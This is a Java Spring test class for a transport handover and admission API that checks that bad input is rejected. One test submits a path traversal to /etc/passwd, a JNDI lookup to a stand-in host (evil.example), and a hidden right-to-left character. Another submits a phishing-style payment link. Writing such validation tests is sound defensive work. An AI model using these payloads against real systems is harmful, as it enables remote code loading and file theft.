package org.homecoming.transport.handovers;

import org.homecoming.platform.security.Roles;
import org.homecoming.platform.web.WebInputRules;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.WebMvcTest;
import org.springframework.context.annotation.Import;
import org.springframework.http.MediaType;
import org.springframework.security.test.context.support.WithMockUser;
import org.springframework.test.context.bean.override.mockito.MockitoBean;
import org.springframework.test.web.servlet.MockMvc;

import static org.hamcrest.Matchers.containsInAnyOrder;
import static org.mockito.ArgumentMatchers.any;
import static org.mockito.ArgumentMatchers.anyBoolean;
import static org.mockito.ArgumentMatchers.anyString;
import static org.mockito.Mockito.never;
import static org.mockito.Mockito.verify;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

@WithMockUser(username = "reception-1", roles = Roles.RECEPTION_STAFF)
@WebMvcTest(HandoverController.class)
@Import(WebInputRules.class)
class HandoverControllerTest {

    @Autowired
    MockMvc mvc;
    @MockitoBean
    HandoverDesk desk;
    @MockitoBean
    ArrivalConfirmation arrivals;

    @Test
    void shouldNameEveryMissingFieldOfAHandover() throws Exception {
        mvc.perform(post("/api/v1/handovers").contentType(MediaType.APPLICATION_JSON).content("{}"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.errors[*].field",
                        containsInAnyOrder("personId", "busId", "identityVerified", "triageLevel", "destinationFacility")));

        verify(desk, never()).handOver(anyString(), anyString(), anyBoolean(), any(), anyString());
    }

    @Test
    void shouldRefuseATriageLevelThatDoesNotExist() throws Exception {
        mvc.perform(post("/api/v1/handovers").contentType(MediaType.APPLICATION_JSON).content("""
                        {"personId": "p-1", "busId": "bus-1", "identityVerified": true, "triageLevel": "CRITICAL",
                         "destinationFacility": "chernihiv-regional-hospital"}"""))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.errors[0].field").value("triageLevel"));
    }

    @Test
    void shouldNameTheMissingFacilityOfAnAdmission() throws Exception {
        mvc.perform(post("/api/v1/admissions").contentType(MediaType.APPLICATION_JSON).content("{\"personId\": \"p-1\"}"))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.errors[0].field").value("facility"));

        verify(desk, never()).admit(anyString(), anyString());
    }

    @Test
    void shouldRefuseIdsThatBreakTheEntityIdRule() throws Exception {
        mvc.perform(post("/api/v1/handovers").contentType(MediaType.APPLICATION_JSON).content("""
                        {"personId": "p-1\u202E", "busId": "../../etc/passwd", "identityVerified": true, "triageLevel": "URGENT",
                         "destinationFacility": "${jndi:ldap://evil.example/a}"}"""))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.errors[*].field", containsInAnyOrder("personId", "busId", "destinationFacility")));

        verify(desk, never()).handOver(anyString(), anyString(), anyBoolean(), any(), anyString());
    }

    @Test
    void shouldRefuseAFreeTextFacilityAndUnknownFields() throws Exception {
        mvc.perform(post("/api/v1/handovers").contentType(MediaType.APPLICATION_JSON).content("""
                        {"personId": "p-1", "busId": "bus-1", "identityVerified": true, "triageLevel": "URGENT",
                         "destinationFacility": "Hospital - pay the processing fee at http://evil.example/pay"}"""))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.errors[0].field").value("destinationFacility"));
        mvc.perform(post("/api/v1/admissions").contentType(MediaType.APPLICATION_JSON).content("""
                        {"personId": "p-1", "facility": "chernihiv-regional-hospital", "note": "call me"}"""))
                .andExpect(status().isBadRequest())
                .andExpect(jsonPath("$.errors[0].field").value("note"));

        verify(desk, never()).handOver(anyString(), anyString(), anyBoolean(), any(), anyString());
        verify(desk, never()).admit(anyString(), anyString());
    }
}
